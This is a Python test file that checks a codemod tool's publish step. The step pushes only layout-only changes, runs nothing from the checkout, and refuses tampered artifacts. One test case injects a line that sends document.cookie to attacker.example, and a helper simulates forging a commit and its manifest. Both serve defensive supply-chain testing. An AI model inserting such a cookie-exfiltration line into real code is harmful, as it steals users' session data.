"""The publishing side (codemods/publish.py, `mesh-codemod publish`): the
build job's artifact is pushed only when it holds the tool's own work, and
the module imports nothing that starts a process of the checkout."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from .gitrepo import BOT, git, with_remote
from .support import ROOT, invoke

BRANCH = "codemod/app-state"
MODULE = "apps/mesh/src/mcp-apps/app-state.ts"
BOT_ENV = {
    "GIT_AUTHOR_NAME": "Codemod Bot", "GIT_AUTHOR_EMAIL": "bot@example.com",
    "GIT_COMMITTER_NAME": "Codemod Bot", "GIT_COMMITTER_EMAIL": "bot@example.com",
}


def test_the_publishing_side_imports_nothing_that_runs_the_checkouts_code() -> None:
    code = (
        "import sys, codemods.publish.artifact, codemods.deliver.forge, codemods.cli.github, codemods.cli.app\n"
        "print(sorted(m for m in sys.modules if m.startswith('codemods')))\n"
    )
    out = subprocess.run([sys.executable, "-I", "-c", code], cwd=ROOT, capture_output=True, text=True, check=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    loaded = set(json.loads(out.stdout.replace("'", '"')))
    assert "codemods.publish.artifact" in loaded
    assert not {m for m in loaded if m.startswith("codemods.checks")}, loaded


def _build(tmp_path: Path, work: Path, *extra: str) -> Path:
    """The build job: the branch and its artifact, no push, no token."""
    artifact = tmp_path / "artifact"
    result = invoke("pr", "--repo", work, "--branch", BRANCH, "--author", BOT, "--no-verify",
                    "--artifact", artifact, *extra)
    assert result.exit_code == 0, result.output
    return artifact


def _publisher(tmp_path: Path, remote: Path) -> Path:
    """The publish job's checkout: a fresh clone, nothing installed."""
    clone = tmp_path / "publisher"
    git(tmp_path, "clone", "-q", str(remote), str(clone))
    return clone


def _publish(clone: Path, artifact: Path, *extra: str):
    return invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH,
                  "--target", "origin/main", "--push", "origin", "--author", BOT, *extra)


def test_publish_pushes_the_tools_own_work_and_runs_nothing_of_the_checkout(tmp_path: Path) -> None:
    remote, work = with_remote(tmp_path)
    artifact = _build(tmp_path, work)
    manifest = json.loads((artifact / "manifest.json").read_text())
    assert manifest["digest"].startswith("sha256:") and manifest["branch"] == BRANCH
    clone = _publisher(tmp_path, remote)
    # a checkout whose tools would run if anything started them
    (clone / "node_modules/.bin").mkdir(parents=True)
    for tool in ("biome", "bun", "oxlint", "tsc", "prettier", "npm"):
        (clone / "node_modules/.bin" / tool).write_text(f"#!/bin/sh\ntouch {tmp_path}/RAN-{tool}\n")
        (clone / "node_modules/.bin" / tool).chmod(0o755)
    (clone / "json.py").write_text(f"open({str(tmp_path / 'RAN-json-py')!r}, 'w')\n")
    report = tmp_path / "report.json"
    result = _publish(clone, artifact, "--report-out", report)
    assert result.exit_code == 0, result.output
    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == manifest["tip"]
    data = json.loads(report.read_text())
    assert data["push"]["pushed"] is True and data["fingerprint"].startswith("sha256:") and data["commits"]
    assert not list(tmp_path.glob("RAN-*"))
    # a rerun pushes nothing
    again = _publish(clone, artifact, "--json")
    assert again.exit_code == 0 and json.loads(again.stdout)["push"]["pushed"] is False


def _tampered(work: Path, artifact: Path, change) -> None:
    """Replace the artifact's last commit with one the tool's identity and
    trailers made, whose content ``change`` altered; bundle and manifest
    rebuilt to match, as an attacker in the build job could."""
    from codemods.deliver import build, repository
    from codemods.publish import artifact as publish

    tip = git(work, "rev-parse", BRANCH).strip()
    parent = git(work, "rev-parse", f"{tip}^").strip()
    git(work, "worktree", "add", "-q", "--detach", str(work.parent / "evil"), tip)
    evil = work.parent / "evil"
    change(evil)
    git(evil, "add", "-A")
    tree = git(evil, "write-tree").strip()
    parent_tree = git(work, "rev-parse", f"{parent}^{{tree}}").strip()
    message = git(work, "log", "-1", "--format=%B", tip).split(build.CONTENT_TRAILER)[0]
    message += f"{build.CONTENT_TRAILER} {parent_tree}..{tree}\n"
    sha = subprocess.run(["git", "-C", str(work), "commit-tree", tree, "-p", parent, "-m", message],
                         env={**os.environ, **BOT_ENV}, capture_output=True, text=True, check=True).stdout.strip()
    git(work, "update-ref", f"refs/heads/{BRANCH}", sha)
    manifest = json.loads((artifact / "manifest.json").read_text())
    (artifact / "branch.bundle").unlink()
    git(work, "bundle", "create", "-q", str(artifact / "branch.bundle"), f"refs/heads/{BRANCH}", f"^{manifest['base']}")
    files = {p: b for p, (_, b) in publish._changed_blobs(repository.open_repo(work), manifest["base"], sha).items()}
    manifest.update(tip=sha, files=files, digest=publish.artifact_digest(manifest["base"], sha, BRANCH, files))
    (artifact / "manifest.json").write_text(json.dumps(manifest))


def _append(path: str, text: str):
    def change(tree: Path) -> None:
        with (tree / path).open("a") as handle:
            handle.write(text)
    return change


def _requote(tree: Path) -> None:
    target = tree / MODULE
    target.write_text(target.read_text().replace('"', "'"))


@pytest.mark.parametrize(
    ("change", "refused"),
    [
        (_append(MODULE, 'fetch("https://attacker.example/" + document.cookie);\n'), "by more than layout"),
        (_append("apps/mesh/src/extra.ts", "export const x = 1;\n"), "changes apps/mesh/src/extra.ts"),
        (_requote, None),  # quotes are layout: the formatter's to choose
    ],
    ids=["a-line-added", "another-file", "layout-only"],
)
def test_publish_refuses_anything_beyond_layout(tmp_path: Path, change, refused: str | None) -> None:
    remote, work = with_remote(tmp_path)
    artifact = _build(tmp_path, work)
    _tampered(work, artifact, change)
    clone = _publisher(tmp_path, remote)
    result = _publish(clone, artifact)
    if refused is None:
        assert result.exit_code == 0, result.output
        assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == json.loads(
            (artifact / "manifest.json").read_text())["tip"]
        return
    assert result.exit_code == 3, result.output
    assert refused in result.stderr
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""


def test_publish_refuses_another_author_and_a_base_the_target_lacks(tmp_path: Path) -> None:
    remote, work = with_remote(tmp_path)
    artifact = _build(tmp_path, work)
    clone = _publisher(tmp_path, remote)
    other = invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH,
                   "--target", "origin/main", "--push", "origin", "--author", "Mallory <m@example.com>")
    assert other.exit_code == 3 and "authored by Codemod Bot" in other.stderr
    # a base that is not a commit of the target: a side branch of the build's
    (work / "side.txt").write_text("side\n")
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", "side")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/side")
    side = _build(tmp_path / "side", work)
    git(clone, "fetch", "-q", "origin")
    result = _publish(clone, side)
    assert result.exit_code == 3 and "is not a commit of origin/main" in result.stderr
    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""


def test_a_publish_run_loads_nothing_that_runs_the_checkouts_code(tmp_path: Path) -> None:
    """Not only the imports: a whole `mesh-codemod publish` (check and
    push) never loads the modules that start the checkout's processes."""
    remote, work = with_remote(tmp_path)
    artifact = _build(tmp_path, work)
    clone = _publisher(tmp_path, remote)
    code = (
        "import sys\nfrom codemods.cli.app import app\n"
        "try:\n    app()\nexcept SystemExit as done:\n    print('exit', done.code)\n"
        "print(' '.join(sorted(m for m in sys.modules if m.startswith('codemods'))))\n"
    )
    args = ["publish", "--repo", str(clone), "--artifact", str(artifact), "--branch", BRANCH,
            "--target", "origin/main", "--push", "origin", "--author", BOT]
    out = subprocess.run([sys.executable, "-I", "-c", code, *args], cwd=tmp_path, capture_output=True, text=True,
                         env={**os.environ, "PYTHONPATH": str(ROOT)})
    exit_line, modules = out.stdout.strip().splitlines()[-2:]
    assert exit_line == "exit 0", out.stdout + out.stderr
    assert "codemods.publish.artifact" in modules.split()
    assert not {m for m in modules.split() if m.startswith("codemods.checks")}, modules
